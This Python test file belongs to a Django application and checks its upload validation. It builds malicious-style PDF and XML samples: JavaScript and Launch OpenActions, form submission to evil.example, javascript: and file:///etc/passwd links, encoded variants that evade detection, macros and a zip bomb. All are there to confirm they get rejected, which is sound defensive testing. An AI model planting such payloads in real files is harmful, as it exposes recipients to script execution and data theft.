"""Uploads to an operation: what is refused, in which words, and that nothing of it runs in the desk."""

import datetime as dt
import io
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from depesa.emails.models import SystemEmail
from depesa.emails.services.emails import attach
from depesa.files.inspection import active_content
from depesa.files.tests.pages import PAGES
from depesa.files.uploads import BadUpload, media_type_of
from depesa.operations.models import Attachment, Operation
from depesa.operations.services import attach_file, enter
from depesa.outbox.services.enclosures import enclose_upload

SCRIPT = PAGES.replace(b"/Type/Catalog", b"/Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>")
LAUNCH = PAGES.replace(b"/Type/Catalog", b"/Type/Catalog/OpenAction<</S/Launch/F(calc.exe)>>")


@pytest.fixture
def operation(ada):
    return enter(operation_on=dt.date(2011, 6, 30), text="call back", by=ada)


def _office(*names, packed=b"x"):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as file:
        for name in names:
            file.writestr(name, packed)
    return buffer.getvalue()


def test_file_is_attached_with_the_type_of_its_content(operation, ada):
    attachment = attach_file(operation, file_name="terms.pdf", content=PAGES, by=ada)
    assert (attachment.name, attachment.media_type) == ("terms.pdf", "application/pdf")


def test_input_66_empty_file():
    with pytest.raises(BadUpload, match="is empty"):
        media_type_of("a.pdf", b"")


def test_input_67_file_over_the_limit():
    with pytest.raises(BadUpload, match=r"has 15.0.MB; the limit is 15.0.MB \(a letter grows by 37 %\)"):
        media_type_of("a.txt", b"x" * (15 * 1024 * 1024 + 1))


@pytest.mark.parametrize("content", [b"MZ\x90\x00", b"<html>", b"PK\x03\x04", b"junk %PDF-1.4"])
def test_input_68_what_says_it_is_a_pdf_and_is_not(content):
    with pytest.raises(BadUpload, match=r"“invoice.pdf” is not a PDF"):
        media_type_of("invoice.pdf", content)


@pytest.mark.parametrize(("pdf", "word"), [(SCRIPT, "script"), (LAUNCH, "programs"), (b"%PDF-1.4 rest", "damaged")])
def test_input_69_pdf_that_does_more_than_show_pages(operation, ada, pdf, word):
    assert word in active_content(pdf)
    with pytest.raises(BadUpload, match=word):
        attach_file(operation, file_name="a.pdf", content=pdf, by=ada)
    assert not Attachment.objects.exists()


def packed(catalog):
    """The same pages with this in the catalogue, every object packed into a stream, as most programs write them."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R%b>>" % catalog,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 72 72]>>",
    ]
    places = [sum(len(each) + 1 for each in objects[:number]) for number in range(3)]
    index = b" ".join(b"%d %d" % pair for pair in zip((1, 2, 3), places, strict=True)) + b" "
    inside = zlib.compress(index + b" ".join(objects))
    head = b"4 0 obj<</Type/ObjStm/N 3/First %d/Filter/FlateDecode/Length %d>>stream\n" % (len(index), len(inside))
    start = b"%PDF-1.5\n" + head + inside + b"\nendstream endobj\n"
    rows = b"".join(
        kind.to_bytes() + at.to_bytes(4) + number.to_bytes()
        for kind, at, number in [(0, 0, 255), (2, 4, 0), (2, 4, 1), (2, 4, 2), (1, 9, 0), (1, len(start), 0)]
    )
    table = b"5 0 obj<</Type/XRef/W[1 4 1]/Size 6/Root 1 0 R/Length %d>>stream\n%b\nendstream endobj\n"
    return start + table % (len(rows), rows) + b"startxref\n%d\n%%%%EOF" % len(start)


def action(of, what=b""):
    return b"/OpenAction<</S/%b%b>>" % (of, what)


ACTIVE = {
    "script": (action(b"JavaScript", b"/JS(app.alert(1))"), "script"),
    "script, disguised": (action(b"J#61vaScript", b"/JS(app.alert(1))"), "script"),
    "script in a form": (b"/AcroForm<</Fields[]/XFA(x)>>", "script"),
    "program": (action(b"Launch", b"/F(calc.exe)"), "programs"),
    "film": (action(b"Rendition"), "programs"),
    "other file": (action(b"GoToR", b"/F(\\\\\\\\host\\\\x.pdf)/D[0/Fit]"), "other files"),
    "form": (action(b"SubmitForm", b"/F(https://evil.example)"), "sends"),
    "embedded": (b"/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(a)>>]>>>>", "other files"),
    "javascript link": (action(b"URI", b"/URI(javascript:alert(1))"), "“javascript:alert(1)”"),
    "link in octal": (action(b"URI", b"/URI(\\152avascript:x)"), "“javascript:x”"),
    "link in hex": (action(b"URI", b"/URI<6a6176617363726970743a78>"), "“javascript:x”"),
    "link elsewhere": (action(b"URI", b"/URI 2 0 R"), "link"),
    "file link": (action(b"URI", b"/URI(file:///etc/passwd)"), "“file:///etc/passwd”"),
    "no scheme": (action(b"URI", b"/URI(//evil.example)"), "“//evil.example”"),
}


@pytest.mark.parametrize(("catalog", "word"), ACTIVE.values(), ids=ACTIVE)
def test_what_a_pdf_does_is_found_however_it_is_written(catalog, word):
    assert word in active_content(PAGES.replace(b"/Type/Catalog", b"/Type/Catalog" + catalog))
    assert word in active_content(packed(catalog))


@pytest.mark.parametrize(
    "link", [b"https://a.example/(x)?y=1", b"HTTP://a.example", b"mailto:a@b.example", b"tel:+370"]
)
def test_a_pdf_may_lead_to_the_web_to_mail_and_to_a_phone(link):
    catalog = action(b"URI", b"/URI(%b)" % link)
    assert active_content(PAGES.replace(b"/Type/Catalog", b"/Type/Catalog" + catalog)) == ""
    assert active_content(packed(catalog)) == ""


@pytest.mark.django_db
def test_every_door_for_files_of_letters_looks_into_a_pdf(operation, ada):
    pdf = packed(ACTIVE["javascript link"][0])
    email = SystemEmail.objects.first()
    doors = [
        lambda: attach_file(operation, file_name="a.pdf", content=pdf, by=ada),
        lambda: enclose_upload("a.pdf", pdf),
        lambda: attach(email, "a.pdf", pdf, by=ada),
    ]
    for door in doors:
        with pytest.raises(BadUpload, match=r"“a.pdf” is not sent\. It has a link"):
            door()


def test_our_own_pages_are_only_pages():
    assert active_content(PAGES) == ""
    assert active_content(packed(b"")) == ""


@pytest.mark.parametrize("name", ["page.html", "picture.svg", "script.js", "run.exe", "sheet.xlsm", "noending"])
def test_input_70_types_that_could_run_are_not_taken(name):
    with pytest.raises(BadUpload, match="are not sent"):
        media_type_of(name, b"<svg onload=alert(1)>")


@pytest.mark.parametrize("name", ["invoice.isdoc", "invoice.xml"])
def test_an_invoice_for_machines_is_taken_and_xml_that_could_run_is_not(name):
    invoice = b'\xef\xbb\xbf<?xml version="1.0" encoding="utf-8"?><Invoice xmlns="http://isdoc.cz/namespace/2013"/>'
    assert media_type_of(name, invoice).startswith("application/x")
    page = b'<html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script>'
    hidden = b'<a xmlns="http://www.w3.org/1999/&#120;html"/>'
    style = b'<?xml version="1.0"?><?xml-stylesheet href="https://x.example/a.xsl"?><a/>'
    entity = b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
    for content in (page, hidden, style, entity, b"no xml", b"\xff\xfe<\0a\0"):
        with pytest.raises(BadUpload, match="is not a"):
            media_type_of(name, content)


def test_input_70_attached_file_is_shown_in_a_sandbox(client, ada, operation):
    attachment = attach_file(operation, file_name="terms.pdf", content=PAGES, by=ada)
    client.force_login(ada)
    answer = client.get(f"/operations/{operation.pk}/attachments/{attachment.pk}/")
    assert answer.status_code == 200
    assert "sandbox" in answer.headers["Content-Security-Policy"]
    assert answer.headers["X-Content-Type-Options"] == "nosniff"


def test_input_72_packed_bomb_and_macros_are_no_workbooks():
    assert media_type_of("a.xlsx", _office("xl/workbook.xml")).endswith("spreadsheetml.sheet")
    for content in (
        _office("xl/workbook.xml", packed=b"0" * 5_000_000),
        _office("xl/workbook.xml", "xl/vbaProject.bin"),
    ):
        with pytest.raises(BadUpload, match="not a XLSX"):
            media_type_of("a.xlsx", content)


def test_input_73_too_many_fields_and_files_are_a_bad_request(client, ada, operation):
    client.force_login(ada)
    many = {f"f{number}": "x" for number in range(2100)}
    assert client.post(f"/operations/{operation.pk}/attachments/", many).status_code == 400
    files = {f"f{number}": SimpleUploadedFile("a.txt", b"x") for number in range(120)}
    assert client.post(f"/operations/{operation.pk}/attachments/", files).status_code == 400


def test_bad_upload_is_told_on_the_operation_and_nothing_is_kept(client, ada, operation):
    client.force_login(ada)
    file = SimpleUploadedFile("invoice.pdf", b"MZ\x90", content_type="application/pdf")
    page = client.post(f"/operations/{operation.pk}/attachments/", {"file": file}, follow=True)
    assert "is not a PDF" in page.text
    assert Operation.objects.get().attachments.count() == 0
